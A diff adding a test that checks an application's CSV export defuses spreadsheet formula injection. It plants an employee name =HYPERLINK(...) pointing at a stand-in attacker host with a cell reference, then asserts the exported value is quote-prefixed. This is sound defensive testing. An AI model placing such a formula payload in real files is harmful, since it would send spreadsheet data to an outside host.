@@ -39,6 +39,19 @@ def test_appraise_prints_json_csv_and_a_table(app, worked_example):
     assert any("Cat" in line and "too few" in line for line in lines)
 
 
+def test_appraise_csv_runs_no_formula_in_a_spreadsheet(app, worked_example):
+    """An employee named =HYPERLINK(...) came out as a live formula, where the API's CSV defuses it."""
+    from core.db import transaction
+    from core.models import Employee
+
+    with transaction() as session:
+        session.get(Employee, worked_example.ids["ann"]).name = '=HYPERLINK("http://evil.example/?"&B2,"Click")'
+    result = app.test_cli_runner().invoke(args=[*WEEK_ARGS, "--format", "csv"])
+    names = [row["employee"] for row in csv.DictReader(io.StringIO(result.output))]
+    assert """'=HYPERLINK("http://evil.example/?"&B2,"Click")""" in names
+    assert not any(name.startswith("=") for name in names)
+
+
 def test_appraise_again_lists_what_the_first_run_approved(app, worked_example):
     """A re-run does not issue again what was approved (Ann's recognition needs no approval): the results still
     list it, from the run that made it, as the report pages do."""
